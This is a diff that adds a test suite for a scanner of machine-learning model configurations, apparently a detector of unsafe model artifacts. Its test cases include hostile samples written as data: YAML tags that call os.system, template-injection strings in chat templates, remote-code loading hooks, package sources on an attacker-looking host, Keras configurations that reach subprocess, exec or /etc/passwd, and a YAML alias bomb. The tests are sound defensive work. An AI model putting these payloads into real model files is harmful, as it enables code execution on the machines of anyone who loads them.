@@ -1,0 +1,334 @@
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { ScanReport } from '../../../core/verification/report.ts';
+import { scanFiles } from '../../../core/verification/scan.ts';
+import { fileOf, zipOf } from './samples.ts';
+
+const scan = (content: string): ScanReport => scanFiles([fileOf('file', content)]);
+const rules = (content: string): string[] => scan(content).findings.map(({ rule }) => rule);
+const json = (value: unknown): string => JSON.stringify(value, null, 2);
+
+const LLAMA = {
+  architectures: ['LlamaForCausalLM'],
+  attention_bias: false,
+  bos_token_id: 1,
+  hidden_act: 'silu',
+  model_type: 'llama',
+  rope_scaling: null,
+  torch_dtype: 'float16',
+  _name_or_path: 'org/model',
+  _attn_implementation: 'sdpa',
+};
+const TOKENIZER = {
+  added_tokens_decoder: { '0': { content: '<unk>', special: true } },
+  chat_template: "{% for message in messages %}{{ message['role'] + ': ' + message['content'] }}{% endfor %}",
+  model_max_length: 1e30,
+  tokenizer_class: 'LlamaTokenizer',
+};
+const MLMODEL = `artifact_path: model
+flavors:
+  python_function:
+    code: null
+    env:
+      conda: conda.yaml
+      virtualenv: python_env.yaml
+    loader_module: mlflow.sklearn
+    model_path: model.pkl
+    predict_fn: predict
+    python_version: 3.12.3
+  sklearn:
+    code: null
+    pickled_model: model.pkl
+    serialization_format: cloudpickle
+    sklearn_version: 1.5.0
+mlflow_version: 2.14.1
+utc_time_created: '2024-06-01 10:00:00.000000'
+`;
+const CONDA = `channels:
+- conda-forge
+dependencies:
+- python=3.12.3
+- pip<=24.0
+- pip:
+  - mlflow==2.14.1
+  - scikit-learn==1.5.0
+name: mlflow-env
+`;
+
+const KERAS = {
+  module: 'keras',
+  class_name: 'Sequential',
+  config: {
+    name: 'sequential',
+    layers: [
+      { module: 'keras.layers', class_name: 'InputLayer', config: { batch_shape: [null, 4] }, registered_name: null },
+      {
+        module: 'keras.layers',
+        class_name: 'Dense',
+        config: {
+          units: 2,
+          activation: 'relu',
+          kernel_initializer: {
+            module: 'keras.initializers',
+            class_name: 'GlorotUniform',
+            config: { seed: null },
+            registered_name: null,
+          },
+        },
+        registered_name: null,
+        build_config: { input_shape: [null, 4] },
+      },
+    ],
+  },
+  registered_name: 'Sequential',
+  compile_config: { loss: { module: 'builtins', class_name: 'function', config: 'mse', registered_name: 'function' } },
+};
+const keras = (layer: unknown): string => json({ ...KERAS, config: { layers: [layer] } });
+
+describe('configurations without code of their own', () => {
+  test.each([
+    ['config.json', json(LLAMA)],
+    ['tokenizer_config.json', json(TOKENIZER)],
+    ['generation_config.json', json({ eos_token_id: 2, transformers_version: '4.44.0' })],
+    ['an empty auto_map', json({ ...LLAMA, auto_map: {} })],
+    ['remote code that is off', json({ ...LLAMA, trust_remote_code: false })],
+    [
+      'modules.json of sentence-transformers',
+      json([
+        { idx: 0, name: '0', path: '', type: 'sentence_transformers.models.Transformer' },
+        { idx: 1, name: '1', path: '1_Pooling', type: 'sentence_transformers.models.Pooling' },
+      ]),
+    ],
+    [
+      'model_index.json of diffusers',
+      json({
+        _class_name: 'StableDiffusionPipeline',
+        _diffusers_version: '0.30.0',
+        unet: ['diffusers', 'UNet2DConditionModel'],
+        text_encoder: ['transformers', 'CLIPTextModel'],
+        safety_checker: [null, null],
+        image_size: [64, 64],
+      }),
+    ],
+    ['adapter_config.json of PEFT', json({ auto_mapping: null, peft_type: 'LORA', r: 8 })],
+    ['MLmodel', MLMODEL],
+    ['conda.yaml', CONDA],
+    ['python_env.yaml', 'python: 3.12.3\nbuild_dependencies:\n- pip==24.0\ndependencies:\n- -r requirements.txt\n'],
+    ['requirements', 'mlflow==2.14.1\nscikit-learn[all]>=1.5 ; python_version < "3.13"  # pinned\n'],
+    ['requirements with hashes', 'numpy==2.0.0 \\\n    --hash=sha256:00ff \\\n    --hash=sha256:ff00\n'],
+    ['a model card', '---\nlicense: mit\ntags:\n- text\n---\n# Model\n\n    pip install -e .\n\nSet auto_map: yes.\n'],
+    ['a list of addresses', 'https://example.org/a.png\nhttps://example.org/b.png\n'],
+    ['a list of paths', './a/b.png\n./c.png\n'],
+    ['a list in Markdown', '- one\n- two\n'],
+    ['a table with a column class_name', 'class_name,module\ncat,os\ndog,sys\n'],
+    ['a plain tag of YAML', 'shape: !!python/tuple [1, 2]\n'],
+    ['a model of Keras', json(KERAS)],
+    [
+      'a model of Keras 2',
+      json({
+        class_name: 'Sequential',
+        config: { layers: [{ class_name: 'Dense', config: {} }] },
+        backend: 'tensorflow',
+      }),
+    ],
+  ])('are clean: %s', (_, content) => {
+    expect(scan(content)).toMatchObject({ verdict: 'clean', findings: [] });
+  });
+});
+
+describe('what makes a library load code is a finding', () => {
+  test.each<[string, unknown, string]>([
+    ['auto_map', { ...LLAMA, auto_map: { AutoModel: 'modeling.Model' } }, 'config-remote-code'],
+    ['auto_map of another repository', { auto_map: { AutoModel: 'evil/repo--modeling.Model' } }, 'config-remote-code'],
+    [
+      'auto_map in a nested configuration',
+      { vision_config: { auto_map: { AutoConfig: 'a.B' } } },
+      'config-remote-code',
+    ],
+    ['custom_pipelines', { custom_pipelines: { evil: { impl: 'evil.Pipeline' } } }, 'config-remote-code'],
+    ['trust_remote_code', { trust_remote_code: true }, 'config-remote-code'],
+    ['a tokenizer by path', { tokenizer_class: '../evil.Tokenizer' }, 'config-remote-code'],
+    ['a kernel from the hub', { _attn_implementation: 'evil/kernel' }, 'config-remote-code'],
+    ['a chat template', { chat_template: "{{ ''.__class__.__mro__ }}" }, 'config-template'],
+    [
+      'one of several chat templates',
+      { chat_template: [{ name: 'tool_use', template: '{{ cycler.__init__.__globals__ }}' }] },
+      'config-template',
+    ],
+    ['a chat template by name', { chat_template: { a: { b: '{{ x.__globals__ }}' } } }, 'config-template'],
+    ['a module by name', [{ idx: 0, path: '', type: 'evil.Module' }], 'config-import'],
+    [
+      'a module outside of the folder',
+      [{ idx: 0, path: '../../x', type: 'sentence_transformers.models.Transformer' }],
+      'config-path',
+    ],
+    ['a component by file', { _diffusers_version: '1', unet: ['my_unet', 'Unet'] }, 'config-remote-code'],
+    ['a pipeline by file', { _diffusers_version: '1', _class_name: ['pipeline', 'P'] }, 'config-remote-code'],
+    ['a library of PEFT', { auto_mapping: { base_model_class: 'A', parent_library: 'os' } }, 'config-import'],
+  ])('%s', (_, value, rule) => {
+    expect(rules(json(value))).toContain(rule);
+    expect(scan(json(value)).verdict).toBe('finding');
+  });
+
+  test('a key that is spelled with escapes', () => {
+    expect(rules('{"auto\\u005fmap": {"AutoModel": "a.B"}}')).toContain('config-remote-code');
+  });
+
+  test('JSON with NaN, which Python reads', () => {
+    expect(rules('{"a": NaN, "b": "NaN \\" [", "c": -Infinity, "auto_map": {"AutoModel": "a.B"}}')).toContain(
+      'config-remote-code',
+    );
+  });
+
+  test('a key far behind in a large file, which is not scanned then', () => {
+    const padding = `{"a": "${' '.repeat(33 * 2 ** 20)}", `;
+    expect(scan(`${padding}"auto_map": {"AutoModel": "a.B"}}`)).toMatchObject({
+      verdict: 'unscanned',
+      files: [{ reason: 'too_large' }],
+    });
+    expect(scan(`${padding}"b": 1}`).verdict).toBe('clean');
+  });
+
+  test('in a plot that would be clean', () => {
+    const plot = { $schema: 'https://vega.github.io/schema/vega-lite/v5.json', data: { values: [] } };
+    expect(scan(json(plot)).verdict).toBe('clean');
+    expect(scan(json({ ...plot, trust_remote_code: true })).verdict).toBe('finding');
+  });
+});
+
+describe('of MLflow, a finding is', () => {
+  test.each([
+    ['a loader of its own', MLMODEL.replace('mlflow.sklearn', 'loader'), 'mlflow-code'],
+    ['a loader below one of MLflow', MLMODEL.replace('mlflow.sklearn', 'mlflow.sklearn.evil'), 'mlflow-code'],
+    ['a pickled model class', MLMODEL.replace('mlflow.sklearn', 'mlflow.pyfunc.model'), 'mlflow-code'],
+    ['a folder of code', MLMODEL.replace('code: null', 'code: code'), 'mlflow-code'],
+    ['a python_model', MLMODEL.replace('predict_fn: predict', 'python_model: python_model.pkl'), 'mlflow-code'],
+    ['a model from code', `${MLMODEL}model_code_path: /tmp/model.py\n`, 'mlflow-code'],
+    ['a model elsewhere', MLMODEL.replace('model_path: model.pkl', 'model_path: ../model.pkl'), 'config-path'],
+    ['an escaped key', MLMODEL.replace('loader_module: mlflow.sklearn', '"loader\\x5fmodule": os'), 'mlflow-code'],
+    ['an alias', `x: &x\n  loader_module: os\nflavors:\n  python_function: *x\n`, 'mlflow-code'],
+    ['a merged mapping', `x: &x\n  loader_module: os\nflavors:\n  python_function:\n    <<: *x\n`, 'mlflow-code'],
+    ['JSON', '{"flavors": {"python_function": {"loader_module": "os"}}}', 'mlflow-code'],
+    ['YAML in braces', '{flavors: {python_function: {loader_module: os}}}', 'mlflow-code'],
+    ['the last of equal keys', `flavors: {}\n${MLMODEL.replace('mlflow.sklearn', 'os')}`, 'mlflow-code'],
+  ])('%s', (_, content, rule) => {
+    expect(rules(content)).toContain(rule);
+  });
+});
+
+describe('requirements from elsewhere are findings', () => {
+  test.each([
+    '--index-url https://evil.example/simple\nnumpy',
+    '-i https://evil.example/simple',
+    '--extra-index-url=https://evil.example/simple\nnumpy==1.0',
+    '--find-links ./wheels\n',
+    '-e .',
+    '-e git+https://evil.example/a.git#egg=a',
+    'git+https://evil.example/a.git',
+    'numpy @ https://evil.example/numpy.whl',
+    'numpy@https://evil.example/numpy.whl',
+    'numpy [all] @ git+ssh://evil.example/numpy',
+    'numpy==1.0\nhttps://evil.example/numpy.whl',
+    'numpy==1.0\n./numpy.whl',
+    '--requirement https://evil.example/r.txt\n',
+    '-r ../r.txt',
+    'numpy==1.0 \\\n --hash=sha256:00\n--trusted-host evil.example',
+  ])('%j', (content) => {
+    expect(rules(content)).toEqual(['requirements-source']);
+  });
+
+  test('and in an environment of conda', () => {
+    expect(rules(CONDA.replace('- mlflow==2.14.1', '- git+https://evil.example/a.git'))).toEqual([
+      'requirements-source',
+    ]);
+  });
+});
+
+test.each([
+  'a: !!python/object/apply:os.system ["id"]\n',
+  'a: !!python/name:os.system\n',
+  'a: !<tag:yaml.org,2002:python/object/new:os.system> []\n',
+  '%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system ["id"]\n',
+  'a: !!%70ython/object/apply:os.system ["id"]\n',
+])('YAML that makes Python objects is a finding: %j', (content) => {
+  expect(rules(content)).toContain('yaml-python-tag');
+});
+
+describe('of Keras, a finding is', () => {
+  const layer = (more: object): object => ({ module: 'keras.layers', class_name: 'Dense', config: {}, ...more });
+  test.each<[string, unknown, string]>([
+    ['a Lambda', layer({ class_name: 'Lambda' }), 'keras-lambda'],
+    ['a lambda in a value', { class_name: '__lambda__', config: { value: 'marshal' } }, 'keras-lambda'],
+    ['a class of another module', layer({ module: 'os', class_name: 'System' }), 'keras-import'],
+    [
+      'a function of another module (CVE-2025-1550)',
+      { module: 'subprocess', class_name: 'function', config: 'run', registered_name: 'function' },
+      'keras-import',
+    ],
+    [
+      'get_file (CVE-2025-8747)',
+      { module: 'keras.utils', class_name: 'function', config: 'get_file', registered_name: 'get_file' },
+      'keras-import',
+    ],
+    [
+      'unsafe deserialization (CVE-2025-9906)',
+      { module: 'keras.config', class_name: 'function', config: 'enable_unsafe_deserialization' },
+      'keras-import',
+    ],
+    [
+      'a function by an unknown name',
+      { module: 'builtins', class_name: 'function', config: 'exec' },
+      'keras-custom-object',
+    ],
+    ['a prefix that is none', layer({ module: 'keras.layersevil' }), 'keras-import'],
+    ['a module below', layer({ module: 'keras.layers.evil' }), 'keras-import'],
+    ['a module that is no text', layer({ module: ['keras'] }), 'keras-import'],
+    ['a registered object', layer({ registered_name: 'pkg>Dense' }), 'keras-custom-object'],
+    ['a function as class', layer({ class_name: 'deserialize' }), 'keras-custom-object'],
+    ['a SavedModel beside', layer({ class_name: 'TFSMLayer' }), 'keras-loader'],
+    ['a module of torch (CVE-2025-49655)', layer({ class_name: 'TorchModuleWrapper' }), 'keras-loader'],
+    [
+      'a vocabulary in a file (CVE-2025-12058)',
+      layer({ class_name: 'StringLookup', config: { vocabulary: '/etc/passwd' } }),
+      'keras-loader',
+    ],
+    ['an operator that writes', { class_name: 'TFOpLambda', config: { function: 'io.write_file' } }, 'keras-loader'],
+    ['an object in a plain mapping', { a: [{ b: layer({ module: 'os' }) }] }, 'keras-import'],
+  ])('%s', (_, value, rule) => {
+    expect(rules(keras(value))).toContain(rule);
+  });
+
+  test('an object outside of any model', () => {
+    expect(rules(json([{ module: 'os', class_name: 'function', config: 'system' }]))).toContain('keras-import');
+  });
+
+  test('the configuration in an archive', () => {
+    const archive = zipOf([{ name: 'config.json', content: keras(layer({ class_name: 'Lambda' })) }]);
+    expect(scanFiles([fileOf('model.keras', archive)]).findings).toMatchObject([
+      { rule: 'keras-lambda', file: 'model.keras!/config.json' },
+    ]);
+  });
+});
+
+test('nesting without end ends in a report', () => {
+  const deep = `${'{"class_name": "Dense", "module": "os", "config": '.repeat(20_000)}1${'}'.repeat(20_000)}`;
+  expect(ScanReport.parse(scan(deep)).files).toHaveLength(1);
+  expect(ScanReport.parse(scan(`auto_map: ${'['.repeat(5000)}`)).files).toHaveLength(1);
+  const bomb = `flavors: &a [x, x]\n${[...'bcdefghijk'].map((k, i) => `${k}: &${k} [*${'abcdefghij'[i]}, *${'abcdefghij'[i]}]\n`).join('')}`;
+  expect(ScanReport.parse(scan(bomb)).files).toHaveLength(1);
+});
+
+test('damaged configurations end in a report, and nothing fails on them', () => {
+  const samples = [json(TOKENIZER), MLMODEL, CONDA, json(KERAS), 'a @ b:c\n-e x', '{"a": NaN, "auto_map": {"a": 1}}'];
+  const change = fc.tuple(fc.double({ min: 0, max: 1, noNaN: true }), fc.string({ maxLength: 5 }), fc.nat(6));
+  fc.assert(
+    fc.property(fc.constantFrom(...samples), fc.array(change, { maxLength: 5 }), (sample, changes) => {
+      const text = changes.reduce((before, [where, put, drop]) => {
+        const at = Math.floor(where * before.length);
+        return before.slice(0, at) + put + before.slice(at + drop);
+      }, sample);
+      expect(ScanReport.parse(scan(text)).files.map(({ reason }) => reason)).not.toContain('crashed');
+    }),
+    { numRuns: 600, seed: 7 },
+  );
+});
